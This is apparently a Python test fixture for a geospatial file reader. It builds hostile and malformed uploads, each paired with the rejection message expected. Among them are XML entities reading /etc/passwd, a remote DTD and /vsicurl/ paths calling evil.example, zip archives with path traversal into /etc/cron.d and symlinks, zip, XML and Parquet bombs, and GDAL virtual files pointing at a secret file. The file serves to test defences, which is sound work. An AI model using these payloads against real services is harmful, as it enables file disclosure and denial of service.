"""Files that attack or are broken, each with a piece of the message it must be refused with.

One table for the readers' route and for the page, so that both say the same.
"""

from __future__ import annotations

import io
import json
import stat
import struct
import zipfile
from typing import TYPE_CHECKING, NamedTuple

import pyarrow as pa
from pyarrow import parquet

from tests.test_geo.test_formats.makers import MAKERS, collection, feature, frame, zipped

if TYPE_CHECKING:
    from pathlib import Path

__all__ = ["SECRET", "Hostile", "hostile_files", "tangle"]

SECRET = "the-secret-of-another-file"  # noqa: S105  words to look for
POINT = {"type": "Point", "coordinates": [48, 38]}


class Hostile(NamedTuple):
    """A file and what is said of it."""

    name: str
    data: bytes
    problem: str


def hostile_files(folder: Path) -> dict[str, Hostile]:
    """Return every case by what it is; a secret lies in the folder for them to reach for.

    Parameters
    ----------
    folder
        An empty folder, for files that other programs must write.
    """
    secret = folder / "secret.csv"
    secret.write_text(f"name,lon,lat\n{SECRET},48,38\n", encoding="utf-8")
    return {
        **_other_formats(secret),
        **_zips(),
        **_xml(),
        **_text(),
        **_numbers(),
        **_binary(folder),
    }


def tangle(corners: int) -> bytes:
    """Return an area whose outline crosses itself about as often as it can."""
    ring = [[44.5 + (n * 7919 % corners) / corners * 5, 37 + (n * 104729 % corners) / corners * 3]
            for n in range(corners)]  # fmt: skip
    shape = {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}
    return json.dumps(collection(feature(shape, name="tangle"))).encode()


def _other_formats(secret: Path) -> dict[str, Hostile]:
    layer = f"<SrcDataSource>{secret}</SrcDataSource><SrcLayer>secret</SrcLayer>"
    vrt = f"<OGRVRTDataSource><OGRVRTLayer name='secret'>{layer}</OGRVRTLayer></OGRVRTDataSource>"
    recipe = {"type": "gdal_streamed_alg", "command_line": f"gdal vector ! read {secret}"}
    wrong = "but the contents are"
    return {
        "vrt as geojson": Hostile("x.geojson", vrt.encode(), "a GDAL virtual file"),
        "vrt as kml": Hostile("x.kml", vrt.encode(), "a GDAL virtual file"),
        "vrt by its own name": Hostile("x.vrt", vrt.encode(), "names ending in '.vrt'"),
        "gdal recipe": Hostile("x.json", json.dumps(recipe).encode(), "a GDAL recipe"),
        "web feature service": Hostile("x.gpx", b"<OGRWFSDataSource/>", "XML of the kind"),
        "gml": Hostile("x.kml", b"<FeatureCollection/>", "XML of the kind 'FeatureCollection'"),
        "path": Hostile("x.csv", str(secret).encode(), "no columns of coordinates"),
        "vsicurl": Hostile("x.geojson", b"/vsicurl/http://evil.example/x.geojson", "other text"),
        "vsizip": Hostile("x.csv", f"/vsizip/{secret}".encode(), "no columns of coordinates"),
        "name of vsicurl": Hostile("/vsicurl/http:/evil.example/x", b"{}", "without an ending"),
        "web page": Hostile("x.kml", b"<html><script>alert(1)</script></html>", "a web page"),
        "pdf": Hostile("x.geojson", b"%PDF-1.7", "a PDF"),
        "picture": Hostile("x.csv", b"\x89PNG\r\n\x1a\n", wrong),
        "gzip": Hostile("x.kmz", b"\x1f\x8b\x08\x00", "packed with gzip"),
        "program": Hostile("x.gpkg", b"\x7fELF\x02\x01", "a program"),
        "no ending": Hostile("passwd", b"root:x:0:0", "names without an ending"),
        "empty": Hostile("x.geojson", b"", "the file is empty"),
    }


def _member(name: str, body: bytes = b"x", mode: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        archive.writestr(info, body)
    return out.getvalue()


def _zips() -> dict[str, Hostile]:
    bomb = zipped({"doc.kml": bytes(50_000_000)})
    whole = zipped({"doc.kml": b"<kml/>"})
    central = whole.rindex(b"PK\x01\x02")
    locked = whole[: central + 8] + b"\x01" + whole[central + 9 :]
    lying = zipped({"doc.kml": b"A" * 3_000_000})
    lying = lying.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 1_000))
    crowd = zipped({f"{n}.txt": b"" for n in range(501)})
    outside = "its name leads out of the zip"
    return {
        "zip bomb": Hostile("x.kmz", bomb, "far larger than the zip lets one expect"),
        "zip in a zip": Hostile("x.zip", _member("inner.zip"), "itself a packed file"),
        "zip in a zip, renamed": Hostile("x.kmz", zipped({"doc.kml": whole}), "itself a packed"),
        "zip with dots": Hostile("x.zip", _member("../../etc/cron.d/x.shp"), outside),
        "zip with a root": Hostile("x.zip", _member("/etc/x.shp"), outside),
        "zip with a drive": Hostile("x.zip", _member("C:/x.shp"), outside),
        "zip with a link": Hostile(
            "x.zip", _member("x.shp", b"/etc/passwd", stat.S_IFLNK | 0o777), "a link or a device"
        ),
        "locked zip": Hostile("x.kmz", locked, "locked with a password"),
        "lying zip": Hostile("x.kmz", lying, ""),
        "crowded zip": Hostile("x.zip", crowd, "501 files in the zip"),
        "cut zip": Hostile("x.kmz", whole[:-10], "the zip is broken"),
        "zip of something else": Hostile("x.zip", zipped({"a.txt": b"x"}), "neither a Shapefile"),
    }


def _xml() -> dict[str, Hostile]:
    bomb = '<!DOCTYPE kml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><kml>&b;</kml>'
    file = '<!DOCTYPE kml [<!ENTITY a SYSTEM "file:///etc/passwd">]><kml><name>&a;</name></kml>'
    remote = '<!DOCTYPE gpx SYSTEM "http://evil.example/x.dtd"><gpx/>'
    said = "declares a document type or entities"
    return {
        "entities": Hostile("x.kml", bomb.encode(), said),
        "entity of a file": Hostile("x.kmz", zipped({"doc.kml": file.encode()}), said),
        "remote entities": Hostile("x.gpx", remote.encode("utf-16"), said),
        "broken xml": Hostile("x.kml", b"<kml>\n<Folder>\n</kml>", "line 3, column 3"),
        "deep xml": Hostile("x.kml", b"<kml>" + b"<Folder>" * 100_000, "nested too deeply"),
    }


def _text() -> dict[str, Hostile]:
    point = json.dumps(collection(feature(POINT, name="a"))).encode()
    half = point.replace(b'"a"', b'"\\ud800"')
    wide = json.dumps(collection(feature(POINT, **{f"c{n}": n for n in range(1025)}))).encode()
    deep = b'{"a":' + b"[" * 100_000
    return {
        "deep json": Hostile("x.geojson", deep, "nested too deeply"),
        "deep objects": Hostile("x.topojson", b'{"a":' * 100_000, "nested too deeply"),
        "deep wkt": Hostile("x.csv", b'wkt\n"' + b"MULTIPOINT(" * 50 + b'"', "nested too deeply"),
        "half a character": Hostile("x.geojson", half, "half a character"),
        "latin-1 json": Hostile("x.geojson", b'{"a":"\xe9"}', "cannot be read"),
        "utf-16 json": Hostile("x.geojson", '{"a":1}'.encode("utf-16"), "neither GeoJSON"),
        "cp1251 csv": Hostile("x.csv", "name,lon,lat\nм,1,2".encode("cp1251"), "cannot be read"),
        "zero byte": Hostile("x.csv", b"lon,lat\n1,\x002\n", "of a kind that is not known"),
        "cut json": Hostile("x.geojson", point[:-9], "the file is broken at line 1"),
        "key twice": Hostile("x.geojson", b'{"a":1,"a":2}', "stands twice"),
        "too many columns": Hostile("x.geojson", wide, "1,025 columns, more than the 1,024"),
        "brackets": Hostile("x.geojson", b'{"a":[' + b"[]," * 3_000_000 + b"[]]}", "brackets"),
    }


def _numbers() -> dict[str, Hostile]:
    def at(x: str, y: str = "38") -> bytes:
        point = '{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[X,Y]}}'
        whole = f'{{"type":"FeatureCollection","features":[{point}]}}'
        return whole.replace("X", x).replace("Y", y).encode()

    finite = "not a finite number"
    return {
        "NaN": Hostile("x.geojson", at("NaN"), finite),
        "Infinity": Hostile("x.geojson", at("-Infinity"), finite),
        "1e400": Hostile("x.geojson", at("1e400"), finite),
        "NaN in csv": Hostile("x.csv", b"lon,lat\nNaN,38\n", "a coordinate is not a number"),
        "outside the world": Hostile("x.geojson", at("900", "700"), "outside the world"),
        "metres as degrees": Hostile("x.geojson", at("837000.5", "4262000"), "look like metres"),
        "grid file as system": Hostile(
            "x.geojson",
            json.dumps(
                collection(
                    feature(POINT),
                    crs={"type": "name", "properties": {"name": "+proj=longlat +nadgrids=/etc/x"}},
                )
            ).encode(),
            "leads to another file",
        ),
    }


def _binary(folder: Path) -> dict[str, Hostile]:
    made = {form: MAKERS[form](frame(), folder).read_bytes()
            for form in ("FlatGeobuf", "GeoParquet", "Shapefile", "GeoPackage")}  # fmt: skip
    geo = {"primary_column": "geometry", "columns": {"geometry": {"encoding": "WKB"}}}
    table = pa.table(
        {
            "geometry": pa.array([b"\x01" + bytes(20)] * 100),
            "name": pa.array(["x" * 4_000_000] * 100),
        }
    )
    parquet.write_table(
        table.replace_schema_metadata({"geo": json.dumps(geo)}), folder / "b", compression="zstd"
    )
    parquet.write_table(pa.table({"a": [1]}), folder / "plain")
    half = {form: body[: len(body) // 2] for form, body in made.items()}
    return {
        "cut flatgeobuf": Hostile("x.fgb", half["FlatGeobuf"], "broken"),
        "cut geoparquet": Hostile("x.parquet", half["GeoParquet"], "broken"),
        "cut shapefile": Hostile("x.zip", half["Shapefile"], "broken"),
        "cut geopackage": Hostile("x.gpkg", made["GeoPackage"][:5000], "broken"),
        "parquet bomb": Hostile("x.parquet", (folder / "b").read_bytes(), "more memory than is"),
        "parquet of a table": Hostile(
            "x.parquet", (folder / "plain").read_bytes(), "a Parquet table without positions"
        ),
        "part of a shapefile": Hostile("x.shp", b"\x00\x00\x27\x0a" + bytes(96), "only one part"),
    }
